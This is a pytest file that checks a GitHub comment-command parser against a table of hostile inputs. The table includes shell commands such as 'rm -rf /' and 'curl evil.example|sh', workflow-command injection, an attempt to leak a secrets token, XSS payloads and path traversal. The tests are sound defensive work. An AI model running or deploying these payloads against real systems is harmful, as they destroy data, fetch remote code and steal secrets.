"""Hostile comment bodies: each one is not a command, a CommandError, or a harmless command
that carries none of the hostile text; and every error message and quoted line is inert
Markdown."""

from __future__ import annotations

import re

import pytest

from autotune_bot.commands.parse import (
    MAX_LINE_CHARS,
    Command,
    CommandError,
    parse_comment,
)
from autotune_bot.commands.quote import code_span

NONE = "none"
ERROR = "error"

# (id, body, expected): expected is NONE, ERROR or the (verb, args) of the harmless command.
HOSTILE: list[tuple[str, str, str | tuple[str, tuple[str, ...]]]] = [
    # shell metacharacters
    ("semicolon-rm", "/autotune ignore ; rm -rf /", ERROR),
    ("word-semicolon", "/autotune ignore team; rm -rf /", ERROR),
    ("command-substitution", "/autotune analyze $(curl evil.example|sh)", ERROR),
    ("backticks", "/autotune analyze `id`", ERROR),
    ("pipe-curl", "/autotune retune team | curl http://evil.example", ERROR),
    ("and-and", "/autotune retune team && reboot", ERROR),
    ("expression", "/autotune ignore ${{ secrets.GITHUB_TOKEN }}", ERROR),
    ("single-quotes", "/autotune ignore 'team'", ERROR),
    ("double-quotes", '/autotune ignore "team"', ERROR),
    ("shell-first", "; rm -rf / /autotune help", NONE),
    # workflow-command injection
    ("set-output-first-line", "::set-output name=token::x\n/autotune help", NONE),
    ("add-mask-arg", "/autotune ignore ::add-mask::secret", ERROR),
    ("stop-commands-arg", "/autotune analyze ::stop-commands::abc", ERROR),
    ("embedded-set-env", "/autotune ignore a::set-env::b", ERROR),
    ("url-encoded-newline", "/autotune analyze %0a::set-output", ERROR),
    # newline / CR injection
    ("lone-cr-in-arg", "/autotune ignore team\r::set-output name=x::y", ERROR),
    ("crlf-then-command", "/autotune rollback\r\n::add-mask::x", ("rollback", ())),
    ("second-command-line", "/autotune rollback 1\n/autotune ignore x", ("rollback", ("1",))),
    ("line-separator", "/autotune\u2028rollback", NONE),
    ("vertical-tab", "/autotune ignore a\x0bb", ERROR),
    # NUL and other control characters
    ("nul-in-arg", "/autotune ignore team\x00x", ERROR),
    ("nul-after-prefix", "/autotune\x00 help", NONE),
    ("ansi-escape", "/autotune ignore team\x1b[31m", ERROR),
    # sizes
    ("very-long-line", "/autotune ignore " + "a" * 10_000, ERROR),
    ("very-long-word", "/autotune ignore " + "a" * 150, ERROR),
    ("one-megabyte-command", "/autotune help\n" + "x" * 1_000_000, ERROR),
    ("one-megabyte-chatter", "x" * 1_000_000, NONE),
    # unicode tricks
    ("bidi-override", "/autotune ignore \u202eevil", ERROR),
    ("zero-width-joiner", "/autotune ignore te\u200dam", ERROR),
    ("trailing-zero-width-space", "/autotune ignore team\u200b", ERROR),
    ("ideographic-space", "/autotune ignore team\u3000x", ERROR),
    ("homoglyph-prefix", "/\u0430utotune help", NONE),  # Cyrillic a
    ("homoglyph-verb", "/autotune h\u0435lp", ERROR),  # Cyrillic e
    ("fullwidth-slash", "\uff0fautotune help", NONE),
    # Markdown / HTML injection
    ("img-onerror", "/autotune ignore <img src=x onerror=alert(1)>", ERROR),
    ("mention", "/autotune analyze @org/security-team", ERROR),
    ("javascript-link", "/autotune ignore [link](javascript:alert(1))", ERROR),
    ("fake-reply-marker", '<!-- autotune:reply {"comment": "1"} -->\n/autotune rollback', NONE),
    # paths and options
    ("path-traversal", "/autotune analyze ../../etc/passwd", ERROR),
    ("double-dash-option", "/autotune analyze --output=/etc/passwd", ERROR),
    ("single-dash-option", "/autotune retune -rf", ERROR),
    # numbers
    ("arabic-indic-digit", "/autotune rollback \u0661", ERROR),
    ("fullwidth-digit", "/autotune rollback \uff11", ERROR),
    ("huge-n", "/autotune rollback 99999999999999999999999", ERROR),
    ("negative-n", "/autotune rollback -1", ERROR),
    ("plus-n", "/autotune rollback +1", ERROR),
]

# What may appear outside code spans in an error message: our own template text only.
_SPAN = re.compile(r"`[^`\n]*`…?")
_PLAIN_ALLOWED = re.compile(r"[A-Za-z0-9 ,;:()?.'-]*")


def assert_inert_span(span: str) -> None:
    """A code span that nothing can break out of: printable ASCII, one pair of backticks."""
    if span == "(empty)":
        return
    inner = span.removesuffix("…")
    assert inner.startswith("`")
    assert inner.endswith("`")
    assert "`" not in inner[1:-1]
    assert all(0x20 <= ord(ch) < 0x7F for ch in inner)


def assert_inert_message(message: str) -> None:
    assert "\n" not in message
    for span in _SPAN.findall(message):
        assert_inert_span(span)
    outside = _SPAN.sub("", message)
    assert _PLAIN_ALLOWED.fullmatch(outside), outside


def test_the_table_is_large_enough() -> None:
    assert len(HOSTILE) >= 20
    assert len({case_id for case_id, _, _ in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize(
    ("body", "expected"), [(b, e) for _, b, e in HOSTILE], ids=[i for i, _, _ in HOSTILE]
)
def test_hostile_comment_has_a_safe_outcome(
    body: str, expected: str | tuple[str, tuple[str, ...]]
) -> None:
    result = parse_comment(body)
    if expected == NONE:
        assert result is None
    elif expected == ERROR:
        assert isinstance(result, CommandError)
        assert len(result.line) <= MAX_LINE_CHARS
        assert_inert_message(result.message)
        assert_inert_span(code_span(result.line))
    else:
        assert isinstance(result, Command)
        assert (result.verb, result.args) == expected
        assert result.line == " ".join(["/autotune", result.verb, *result.args])


@pytest.mark.parametrize("body", [b for _, b, _ in HOSTILE], ids=[i for i, _, _ in HOSTILE])
def test_the_quoting_helper_neutralises_the_whole_body(body: str) -> None:
    span = code_span(body)
    assert_inert_span(span)
    assert len(span) <= 90  # cut, not echoed at length


def test_error_lines_keep_what_was_written_for_quoting() -> None:
    result = parse_comment("/autotune ignore <img src=x onerror=alert(1)>")
    assert isinstance(result, CommandError)
    assert result.line == "/autotune ignore <img src=x onerror=alert(1)>"
    assert code_span(result.line) == "`/autotune ignore <img src=x onerror=alert(1)>`"
